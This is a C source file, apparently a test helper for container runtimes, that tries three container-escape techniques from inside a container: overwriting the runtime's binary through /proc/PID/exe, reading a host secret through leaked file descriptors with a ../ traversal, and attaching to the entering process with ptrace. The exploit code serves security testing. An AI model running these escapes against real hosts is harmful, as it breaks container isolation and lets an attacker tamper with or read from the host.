/* SPDX-License-Identifier: MIT */
/*
 * grab.c - in a container: take hold of what the runtime leaves in reach
 *
 * Usage:  grab exe|fds|ptrace SECONDS
 *
 *	exe	open /proc/PID/exe of a process that runs another program than
 *		ours, end the process, and write into that program
 *	fds	look through /proc/PID/fd of such a process for a folder from
 *		which the host's /e/secret can be read
 *	ptrace	attach to such a process
 *
 * Looks for such processes until SECONDS are over, ahead of everybody else if
 * it has CAP_SYS_NICE: a runtime that enters a container is there for a
 * millisecond only, and this machine has one processor.
 *
 * Prints "seen" for each, and "through: ..." when it has got what it wanted;
 * "no: ..." says why it has not.
 *
 * Read:   proc(5); ptrace(2), "Ptrace access mode checking"
 * Test:   tests/escape.sh
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { FDS = 40, TRIES = 4000, PAUSE_NS = 500000 };

static void say(const char *what, const char *detail)
{
	printf("%s: %s\n", what, detail);
	(void)fflush(stdout);
}

static bool same(const struct stat *a, const struct stat *b)
{
	return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

/* ETXTBSY until nobody executes it any more. */
static bool overwrite(pid_t pid, int exefd)
{
	struct timespec pause = { .tv_nsec = 1000000 };
	char path[64];
	int fd = -1;

	(void)kill(pid, SIGKILL); /* found in our own PID namespace */
	snprintf(path, sizeof(path), "/proc/self/fd/%d", exefd);
	for (int i = 0; i < TRIES && fd < 0; i++) {
		fd = open(path, O_WRONLY);
		if (fd < 0 && errno != ETXTBSY)
			break;
		if (fd < 0)
			(void)nanosleep(&pause, NULL);
	}
	if (fd < 0) {
		say("no: open", strerrorname_np(errno));
		return false;
	}
	if (write(fd, "#!/bin/evil\n", 12) != 12) {
		say("no: write", strerrorname_np(errno));
		return false;
	}
	say("through", "the runtime's program is overwritten");
	return true;
}

/* The programs of the image are our own and busybox, by many names. */
static bool runs_other(pid_t pid)
{
	struct stat ours, shell, theirs;
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	return stat("/proc/self/exe", &ours) == 0 &&
	       stat("/bin/sh", &shell) == 0 && stat(path, &theirs) == 0 &&
	       !same(&ours, &theirs) && !same(&shell, &theirs);
}

static bool take_exe(pid_t pid)
{
	char path[64];
	int fd;
	bool done;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0) {
		say("no: exe", strerrorname_np(errno));
		return false;
	}
	if (!runs_other(pid)) {
		(void)close(fd);
		return false;
	}
	say("seen", path);
	done = overwrite(pid, fd);
	(void)close(fd);
	return done;
}

static bool take_fds(pid_t pid)
{
	static const char up[] = "../../../../../../../../../../e/secret";
	char path[128], text[64] = "";

	for (int i = 0; i < FDS; i++) {
		int fd;

		snprintf(path, sizeof(path), "/proc/%d/fd/%d/%s", pid, i, up);
		fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0 && errno == EACCES)
			say("no: fd", "EACCES");
		if (fd < 0)
			continue;
		if (read(fd, text, sizeof(text) - 1) > 0)
			say("through", path);
		(void)close(fd);
		return true;
	}
	return false;
}

/* Stopped it may be what it was to become: then it was attached to in vain. */
static bool take_trace(pid_t pid)
{
	int status;
	bool done;

	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0) {
		say("no: ptrace", strerrorname_np(errno));
		return false;
	}
	done = ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0 &&
	       waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status) &&
	       runs_other(pid);
	(void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
	if (done)
		say("through", "attached");
	return done;
}

/* One that we may not look at is none of ours. */
static bool is_other(pid_t pid)
{
	char path[64], link[256];

	if (pid <= 1 || pid == getpid())
		return false;
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	if (readlink(path, link, sizeof(link)) < 0)
		return errno == EACCES;
	return runs_other(pid);
}

static bool look(bool (*take)(pid_t))
{
	DIR *dir = opendir("/proc");
	struct dirent *e;
	bool done = false;

	while (dir && !done && (e = readdir(dir))) {
		pid_t pid = (pid_t)atoi(e->d_name);

		if (!is_other(pid))
			continue;
		if (take != take_exe)
			say("seen", e->d_name);
		done = take(pid);
	}
	if (dir)
		(void)closedir(dir);
	return done;
}

int main(int argc, char **argv)
{
	bool (*take)(pid_t) = argc < 3			       ? NULL
			      : strcmp(argv[1], "exe") == 0    ? take_exe
			      : strcmp(argv[1], "fds") == 0    ? take_fds
			      : strcmp(argv[1], "ptrace") == 0 ? take_trace
							       : NULL;
	struct sched_param first = { .sched_priority = 1 };
	struct timespec pause = { .tv_nsec = PAUSE_NS };
	time_t end = time(NULL) + (argc < 3 ? 0 : atoi(argv[2]));

	if (!take)
		return 2;
	(void)sched_setscheduler(0, SCHED_FIFO, &first);
	say("ready", argv[1]);
	while (time(NULL) < end && !look(take))
		(void)nanosleep(&pause, NULL);
	return 0;
}
